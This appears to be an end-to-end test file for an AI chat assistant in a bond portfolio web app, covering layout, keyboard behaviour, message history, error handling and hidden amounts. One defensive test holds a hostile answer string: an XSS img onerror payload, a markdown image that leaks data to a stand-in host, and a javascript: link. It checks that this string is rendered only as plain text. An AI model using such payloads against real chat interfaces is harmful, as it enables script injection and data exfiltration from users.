import type { Browser, Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { chatTexts } from '../../src/web/platform/texts/assistant/chat.ts';
import { navigationTexts } from '../../src/web/platform/texts/platform/navigation.ts';
import { totalsTexts } from '../../src/web/platform/texts/portfolio/figures/totals.ts';
import { signIn, type Account } from '../support/accounts.ts';
import { expectAccessible } from '../support/axe.ts';
import { startBrowser } from '../support/browser.ts';
import { startDemoSite } from '../support/demo-site.ts';
import { termValue, readText } from '../support/read-text.ts';
import type { Site } from '../support/site.ts';
import { DESKTOP, DARK_PHONE, visit, type Look } from '../support/visit.ts';

let browser: Browser;
let site: Site;
let administrator: Account;
let owner: Account;

beforeAll(async () => {
  browser = await startBrowser();
  ({ site, administrator, owner } = await startDemoSite());
});
afterAll(() => site.stop());

const VALUE_QUESTION = { en: 'How much are my bonds worth?', bg: 'Колко струват облигациите ми?' } as const;

function readParts(page: Page, { language }: Look) {
  const texts = chatTexts[language];
  const panel = page.getByRole('dialog', { name: texts.title });
  return {
    texts,
    panel,
    button: page.locator('#assistant'),
    log: panel.getByRole('log'),
    field: panel.getByRole('textbox'),
    send: panel.getByRole('button', { name: texts.send }),
  };
}

/** The texts of the page or its footer that lie under the button. */
function textsBelow(button: Locator): Promise<string[]> {
  return button.evaluate((element) => {
    const place = element.getBoundingClientRect();
    const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    const found: string[] = [];
    while (texts.nextNode()) {
      const { currentNode: text } = texts;
      if (text.parentElement?.closest('main, footer') == null || element.contains(text)) continue;
      const range = document.createRange();
      range.selectNode(text);
      const covered = [...range.getClientRects()].some(
        ({ left, right, top, bottom }) =>
          left < place.right && right > place.left && top < place.bottom && bottom > place.top,
      );
      if (covered) found.push(text.textContent ?? '');
    }
    return found;
  });
}

/** Responds to the next questions in place of the server. */
async function answerInstead(page: Page, answer: { status: number; content: string }): Promise<unknown[]> {
  const sent: unknown[] = [];
  await page.route('**/api/ai/chat', async (route) => {
    sent.push(route.request().postDataJSON());
    await route.fulfill({ status: answer.status, json: { content: answer.content } });
  });
  return sent;
}

test('a user asks for the value of their bonds and reads the figure of the card', async () => {
  const { language } = DARK_PHONE;
  await visit({ browser, site, look: DARK_PHONE }, async ({ page }) => {
    await signIn(page, owner);
    const { texts, panel, button, log, field, send } = readParts(page, DARK_PHONE);
    const card = termValue(page, totalsTexts[language].portfolioValue).locator('..');
    const market = new RegExp(totalsTexts[language].marketWithAccrued('([\\d.,\\s]*\\d) €'));
    await expect.poll(() => readText(card)).toMatch(market);
    const figure = market.exec(await readText(card))?.[1] ?? '';

    await button.click();
    await log.getByText(texts.greeting).waitFor();
    await panel.getByText(texts.hint).waitFor();
    expect(await field.getAttribute('placeholder')).toBe(texts.placeholder);
    expect(await send.isDisabled()).toBe(true);
    await field.fill('  \n ');
    expect(await send.isDisabled()).toBe(true);
    await expectAccessible(page);

    await field.fill(VALUE_QUESTION[language]);
    await field.press('Enter');
    await log.getByText(texts.thinking).waitFor({ state: 'detached' });
    await expect.poll(() => readText(log)).toContain(`${figure} EUR`);
    await expect.poll(() => field.inputValue()).toBe('');
    await expectAccessible(page);

    await page.keyboard.press('Escape');
    await panel.waitFor({ state: 'hidden' });
    expect(await button.evaluate((element) => element === document.activeElement)).toBe(true);
    await button.click();
    await expect.poll(() => readText(log)).toContain(VALUE_QUESTION[language]);
  });
});

describe.each([DESKTOP, DARK_PHONE])('at $width pixels, $theme, in $language', (look) => {
  test('the panel has its size and position, and at the end of the page the button covers nothing', async () => {
    await visit({ browser, site, look }, async ({ page }) => {
      await signIn(page, owner);
      const { panel, button, log } = readParts(page, look);
      await page.getByText('BG2030026111').first().waitFor();
      // The list grows while its rows are measured, so the page is no longer at its end and the button is hidden.
      await expect
        .poll(async () => {
          await page.evaluate(() => window.scrollTo({ top: document.body.scrollHeight }));
          const isThere = await button.evaluate(
            (element) => element.getBoundingClientRect().bottom <= window.innerHeight,
          );
          return isThere ? textsBelow(button) : ['the button has left'];
        })
        .toEqual([]);

      // Uses the keyboard, because the list may still grow, which hides the button from a mouse that is not at the end of the
      // page.
      await button.press('Enter');
      await log.waitFor();
      const box = (await panel.boundingBox())!;
      const screen = page.viewportSize()!;
      if (look.width === 390) {
        expect(box).toEqual({ x: 0, y: 0, width: 390, height: screen.height });
      } else {
        expect(box.height).toBe(420);
        expect(screen.width - (box.x + box.width)).toBeLessThan(40);
        expect(screen.height - (box.y + box.height)).toBeLessThan(100);
      }
    });
  });
});

test('Shift+Enter begins a new line; nothing is sent while an answer is awaited', async () => {
  await visit({ browser, site }, async ({ page }) => {
    await signIn(page, owner);
    const { texts, button, log, field, send } = readParts(page, DESKTOP);
    let answer: () => void = () => undefined;
    let questions = 0;
    await page.route('**/api/ai/chat', async (route) => {
      questions += 1;
      await new Promise<void>((resolve) => (answer = resolve));
      await route.fulfill({ json: { content: 'An answer' } });
    });
    await button.click();
    await field.pressSequentially('One');
    await field.press('Shift+Enter');
    await field.pressSequentially('two');
    await expect.poll(() => field.inputValue()).toBe('One\ntwo');
    await send.click();
    await log.getByText(texts.thinking).waitFor();
    await field.fill('Next');
    expect(await send.isDisabled()).toBe(true);
    await field.press('Enter');
    await expect.poll(() => field.inputValue()).toBe('Next');
    answer();
    await log.getByText('An answer').waitFor();
    expect(await send.isDisabled()).toBe(false);
    expect(questions).toBe(1);
  });
});

test('a failure ends in an apology, which is not sent back; the last 8 messages are sent', async () => {
  await visit({ browser, site }, async ({ page, expectRefusal }) => {
    await signIn(page, owner);
    const { texts, button, log, field } = readParts(page, DESKTOP);
    // This route stays until another one precedes it. Without any route, the browser may drop the script that it is requesting.
    await page.route('**/api/ai/chat', (route) => route.fulfill({ status: 500, body: 'broken' }));
    await button.click();
    await field.fill('Question 0');
    await field.press('Enter');
    await log.getByText(texts.failed, { exact: true }).waitFor();
    expectRefusal(500, '/api/ai/chat');

    const sent = await answerInstead(page, { status: 200, content: 'Noted' });
    for (let count = 1; count <= 5; count += 1) {
      await field.fill(`Question ${count}`);
      await field.press('Enter');
      await expect.poll(() => log.getByText('Noted').count()).toBe(count);
    }
    const [user, assistant] = ['user', 'assistant'];
    expect(sent[0]).toEqual({
      messages: [
        { role: user, content: 'Question 0' },
        { role: user, content: 'Question 1' },
      ],
    });
    expect(sent.at(-1)).toEqual({
      messages: [
        { role: assistant, content: 'Noted' },
        ...[2, 3, 4].flatMap((count) => [
          { role: user, content: `Question ${count}` },
          { role: assistant, content: 'Noted' },
        ]),
        { role: user, content: 'Question 5' },
      ],
    });
  });
});

test('answers are plain text (SEC-106)', async () => {
  const hostile = '<img src=x onerror=alert(1)> ![x](https://evil.example/?d=1) [a](javascript:alert(1))';
  await visit({ browser, site }, async ({ page }) => {
    await signIn(page, owner);
    const { button, log, field } = readParts(page, DESKTOP);
    await answerInstead(page, { status: 200, content: hostile });
    await button.click();
    await field.fill('Hello');
    await field.press('Enter');
    await log.getByText(hostile).waitFor();
    expect(await log.locator('img, a').count()).toBe(0);
  });
});

test('hidden amounts are hidden in answers, too', async () => {
  await visit({ browser, site }, async ({ page }) => {
    await signIn(page, owner);
    const { button, log, field } = readParts(page, DESKTOP);
    await page.getByRole('button', { name: navigationTexts.en.hideAmounts }).click();
    await button.click();
    await field.fill(VALUE_QUESTION.en);
    await field.press('Enter');
    await log.getByText('at cost').waitFor();
    await expect.poll(() => readText(log)).toMatch(/bonds \(active\) are worth ••••• EUR/);
  });
});

test('administrators and visitors have no assistant', async () => {
  await visit({ browser, site }, async ({ page }) => {
    await page.goto('/contacts');
    await page.getByRole('heading', { level: 1 }).waitFor();
    expect(await page.locator('#assistant').count()).toBe(0);
    await signIn(page, administrator);
    await page.getByRole('heading', { level: 1 }).waitFor();
    expect(await page.locator('#assistant').count()).toBe(0);
  });
});
